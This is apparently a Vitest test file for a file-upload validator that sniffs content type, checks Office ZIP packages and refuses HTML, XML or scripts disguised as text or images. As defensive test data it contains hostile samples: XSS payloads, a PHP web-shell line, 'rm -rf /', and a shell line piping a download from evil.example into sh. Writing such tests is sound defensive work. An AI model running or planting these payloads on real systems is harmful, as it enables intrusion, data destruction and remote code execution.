import { describe, expect, it } from 'vitest';
import {
  decideFileKind,
  isPlainText,
  looksLikeMarkupOrScript,
  officeOpenXmlType,
  SNIFF_BYTES,
  zipEntryNames,
} from '../../../src/server/files/file-kind.ts';
import { officeFile, zipArchive } from '../../helpers/office-files.ts';

const bytes = (text: string) => new TextEncoder().encode(text);
const binary = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 0]);

describe('decideFileKind: the kind comes from the content, the name only has to agree', () => {
  it('accepts content of the kind its name says, with the content type of the content', () => {
    expect(decideFileKind('a.png', { ext: 'png', mime: 'image/png' }, binary)).toEqual({
      ok: true,
      kind: 'image',
      ext: 'png',
      contentType: 'image/png',
    });
    expect(decideFileKind('clip.MP4', { ext: 'mp4', mime: 'video/mp4' }, binary)).toMatchObject({ kind: 'video' });
    expect(decideFileKind('clip.mp4', { ext: 'm4v', mime: 'video/x-m4v' }, binary)).toMatchObject({
      ext: 'mp4',
      contentType: 'video/mp4',
    });
    expect(decideFileKind('a.heif', { ext: 'heic', mime: 'image/heif' }, binary)).toMatchObject({
      ext: 'heif',
      contentType: 'image/heif',
    });
  });

  it('stores a PNG named .jpg as the PNG it is (same kind)', () => {
    expect(decideFileKind('photo.jpg', { ext: 'png', mime: 'image/png' }, binary)).toMatchObject({
      ok: true,
      ext: 'png',
      contentType: 'image/png',
    });
  });

  it('refuses content of another kind than the name says', () => {
    expect(decideFileKind('photo.jpg', { ext: 'pdf', mime: 'application/pdf' }, binary)).toEqual({
      ok: false,
      message: "'photo.jpg' is not an image: its content is a document (pdf).",
    });
  });

  it('refuses names outside the accepted list, naming the list', () => {
    const decision = decideFileKind('setup.exe', { ext: 'exe', mime: 'application/x-msdownload' }, binary);
    expect(decision).toEqual({
      ok: false,
      message:
        "'setup.exe' cannot be uploaded: the accepted file types are pdf, xlsx, xls, csv, ppt, pptx, docx, doc, txt, jpg, jpeg, gif, png, heic, heif, mov, mp4, webm.",
    });
  });

  it('refuses recognised content that is not an accepted type', () => {
    expect(decideFileKind('a.pdf', { ext: 'exe', mime: 'application/x-msdownload' }, binary)).toEqual({
      ok: false,
      message: "'a.pdf' is not a document: its content is exe (application/x-msdownload).",
    });
    expect(decideFileKind('a.png', { ext: 'xml', mime: 'application/xml' }, bytes('<?xml?><svg/>'))).toEqual({
      ok: false,
      message: "'a.png' is not an image: its content is HTML, XML or a script.",
    });
  });

  it('lets the name choose within an old Office container (cfb), and refuses a ZIP under a name that is no Office type', () => {
    expect(decideFileKind('old.doc', { ext: 'cfb', mime: 'application/x-cfb' }, binary)).toMatchObject({
      ok: true,
      ext: 'doc',
      contentType: 'application/msword',
    });
    expect(decideFileKind('photo.jpg', { ext: 'zip', mime: 'application/zip' }, binary)).toEqual({
      ok: false,
      message: "'photo.jpg' is not an image: its content is a zip archive.",
    });
  });

  it('accepts a ZIP as docx, xlsx or pptx only when it is that Office package', () => {
    const zip = { ext: 'zip', mime: 'application/zip' };
    expect(decideFileKind('sheet.xlsx', zip, officeFile('xlsx', { contentTypes: 'last' }))).toEqual({
      ok: true,
      kind: 'document',
      ext: 'xlsx',
      contentType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    });
    // An Office file under another Office name is stored as what it is, like a PNG named .jpg.
    expect(decideFileKind('deck.docx', zip, officeFile('pptx'))).toMatchObject({ ok: true, ext: 'pptx' });
    for (const [name, what] of [
      ['report.docx', 'a Word document'],
      ['sheet.xlsx', 'an Excel workbook'],
      ['deck.pptx', 'a PowerPoint presentation'],
    ]) {
      const plain = zipArchive([{ name: 'report.txt', content: 'not an office file' }]);
      expect(decideFileKind(name as string, zip, plain)).toEqual({
        ok: false,
        message: `'${name}' is not ${what}: its content is a plain ZIP archive.`,
      });
    }
  });

  it('refuses HTML or a script under any name', () => {
    for (const [name, text] of [
      ['photo.jpg', '<!DOCTYPE html><html><body>hi</body></html>'],
      ['photo.jpg', '  \n<script>alert(document.cookie)</script>'],
      ['photo.jpeg', '#!/bin/sh\nrm -rf /'],
      ['notes.txt', '<html><img src=x onerror=alert(1)></html>'],
      ['data.csv', 'a,b\n1,"<script>alert(1)</script>"'],
      ['image.png', '\uFEFF<svg xmlns="http://www.w3.org/2000/svg"/>'],
    ]) {
      const decision = decideFileKind(name as string, undefined, bytes(text as string));
      expect(decision.ok, `${name}: ${text}`).toBe(false);
      expect(decision).toMatchObject({ message: expect.stringMatching(/its content is HTML, XML or a script\.$/) });
    }
  });

  it('accepts plain UTF-8 text as txt or csv, and nothing else unrecognised', () => {
    expect(decideFileKind('units.csv', undefined, bytes('unit,floor\n1A,1\n'))).toEqual({
      ok: true,
      kind: 'document',
      ext: 'csv',
      contentType: 'text/csv',
    });
    expect(decideFileKind('notes.txt', undefined, bytes('Leak in 4B — café'))).toMatchObject({ ext: 'txt' });
    expect(decideFileKind('notes.txt', undefined, new Uint8Array([0x41, 0, 0x42]))).toEqual({
      ok: false,
      message: "'notes.txt' is not a document: its content is not plain text.",
    });
    expect(decideFileKind('photo.jpg', undefined, bytes('just some text'))).toEqual({
      ok: false,
      message: "'photo.jpg' is not an image: its content is of an unrecognised type.",
    });
  });
});

describe('Office Open XML: a ZIP is a docx, xlsx or pptx only when its entries say so', () => {
  const docx = { ext: 'docx', mime: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document' };
  const zip = { ext: 'zip', mime: 'application/zip' };
  const xml = '<?xml version="1.0"?><x/>';
  /** Stored bytes that fill a file past the window, so only its first entries are seen. */
  const picture = { name: 'word/media/image1.png', content: Buffer.alloc(SNIFF_BYTES + 1000, 7) };

  it('a whole file (shorter than the window) needs [Content_Types].xml and the main part of its type', () => {
    const half = [
      [{ name: '[Content_Types].xml', content: xml }],
      [{ name: 'word/document.xml', content: xml }],
      [
        { name: '_rels/.rels', content: xml },
        { name: 'word/styles.xml', content: xml },
      ],
    ];
    for (const entries of half) {
      // file-type calls a ZIP with a content-types part that names Word's main part 'docx'.
      for (const detected of [docx, zip]) {
        expect(decideFileKind('report.docx', detected, zipArchive(entries))).toEqual({
          ok: false,
          message: "'report.docx' is not a Word document: its content is a plain ZIP archive.",
        });
      }
    }
    // Whichever order the producer wrote them in, with or without data descriptors.
    for (const bytes of [
      officeFile('docx'),
      officeFile('docx', { contentTypes: 'last' }),
      officeFile('docx', { dataDescriptor: true, deflate: true }),
    ]) {
      expect(decideFileKind('report.docx', zip, bytes)).toMatchObject({ ok: true, ext: 'docx' });
    }
  });

  it('a file longer than the window needs a package part and an entry of its type among the entries it shows', () => {
    // LibreOffice writes [Content_Types].xml last; a big picture may come before the main part.
    const late = officeFile('docx', { contentTypes: 'last', deflate: false, before: [picture] });
    expect(late.length).toBeGreaterThan(SNIFF_BYTES);
    const window = late.subarray(0, SNIFF_BYTES);
    expect([...zipEntryNames(window)]).toEqual(['_rels/.rels', 'word/media/image1.png']);
    expect(decideFileKind('report.docx', zip, window)).toMatchObject({ ok: true, ext: 'docx' });

    const plain = zipArchive([{ name: 'photos/one.png', content: picture.content }]).subarray(0, SNIFF_BYTES);
    expect(decideFileKind('report.docx', zip, plain)).toMatchObject({ ok: false });
    const noPackage = zipArchive([picture]).subarray(0, SNIFF_BYTES);
    expect(decideFileKind('report.docx', zip, noPackage)).toMatchObject({ ok: false });
  });

  it('reads entry names from local headers (data descriptors too) and from the central directory', () => {
    const bytes = officeFile('xlsx', { dataDescriptor: true });
    expect([...zipEntryNames(bytes)]).toEqual(['[Content_Types].xml', '_rels/.rels', 'xl/workbook.xml']);
    expect(officeOpenXmlType(bytes)).toBe('xlsx');
    expect(officeOpenXmlType(bytes, 'docx')).toBe('xlsx');
    expect(officeOpenXmlType(zipArchive([{ name: 'a.txt', content: 'a' }]))).toBeUndefined();
    expect(zipEntryNames(new Uint8Array([0x50, 0x4b, 3, 4]))).toEqual(new Set());
  });

  it('still refuses an Office file whose name is another kind', () => {
    expect(decideFileKind('photo.jpg', docx, officeFile('docx'))).toEqual({
      ok: false,
      message: "'photo.jpg' is not an image: its content is a document (docx).",
    });
  });
});

describe('markup and scripts in text: anywhere in the window', () => {
  const filler = 'unit,floor,note\n4B,4,"leak < 2 l/h, check > monthly"\n'.repeat(1200);

  it.each([
    '<script>alert(1)</script>',
    '<SCRIPT src=//evil.example/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">click</a>',
    '<div onmouseover="alert(1)">',
    '<iframe srcdoc="x"></iframe>',
    '<svg><g/></svg>',
    '<html>',
    '<body>',
    '</p>',
    '<br/>',
    '<!DOCTYPE html>',
    '<!-- hidden -->',
    '<![CDATA[ x ]]>',
    '<?xml version="1.0"?>',
    '<?php system($_GET["c"]); ?>',
  ])('refuses %j in a .txt or .csv after 60 KB of innocent text', (markup) => {
    expect(filler.length).toBeGreaterThan(60_000);
    const text = new TextEncoder().encode(`${filler}${markup}\n`);
    expect(text.length).toBeLessThanOrEqual(SNIFF_BYTES);
    for (const name of ['notes.txt', 'units.csv']) {
      expect(decideFileKind(name, undefined, text)).toEqual({
        ok: false,
        message: `'${name}' is not a document: its content is HTML, XML or a script.`,
      });
    }
  });

  it.each([
    '#!/bin/sh\ncurl https://evil.example | sh\n',
    '\uFEFF#!/usr/bin/env python3\nimport os\n',
    '\n\n  #!/bin/bash\n',
    '<script>alert(1)</script>',
  ])('refuses the script %j named .txt', (script) => {
    expect(decideFileKind('readme.txt', undefined, new TextEncoder().encode(script))).toMatchObject({ ok: false });
  });

  it.each([
    'a < b and c > d',
    'if x<y then y>x',
    'From: Pat Lee <pat.lee@harbor.example>',
    'usage: cp <source> <destination>',
    'temperature <40 and >30; ratio 1<2',
    'price => 5, a -> b, <= 3',
    'Script: call the plumber. HTML report sent. #! is a shebang.',
    'e-mail <https://harbor.example/x?a=1>',
  ])('keeps the text %j', (text) => {
    expect(decideFileKind('notes.txt', undefined, new TextEncoder().encode(text))).toMatchObject({ ok: true });
  });

  it('reads a hostile window in linear time', () => {
    const hostile = [
      `<a ${'='.repeat(SNIFF_BYTES)}`,
      `<a ${'x='.repeat(SNIFF_BYTES / 2)}`,
      `<a${' '.repeat(SNIFF_BYTES)}`,
      `<a ${'x '.repeat(SNIFF_BYTES / 2)}`,
      `<${'a'.repeat(SNIFF_BYTES)}`,
      '<a b '.repeat(SNIFF_BYTES / 5),
      '</a'.repeat(SNIFF_BYTES / 3),
    ];
    const started = performance.now();
    for (const text of hostile) {
      // After some text, so that no rule for the start decides first.
      looksLikeMarkupOrScript(new TextEncoder().encode(`text ${text}`).subarray(0, SNIFF_BYTES));
    }
    expect(performance.now() - started).toBeLessThan(1000);
  });
});

describe('text checks', () => {
  it('plain text allows a multi-byte character cut at the end of the sample', () => {
    const euro = bytes('price €');
    expect(isPlainText(euro.subarray(0, euro.length - 1))).toBe(true);
    expect(isPlainText(new Uint8Array([0xc3, 0x28]))).toBe(false);
  });

  it('markup or script', () => {
    expect(looksLikeMarkupOrScript(bytes('a < b and c > d'))).toBe(false);
    expect(looksLikeMarkupOrScript(bytes('x\n< script >'))).toBe(true);
    expect(looksLikeMarkupOrScript(bytes('</p>'))).toBe(true);
  });
});
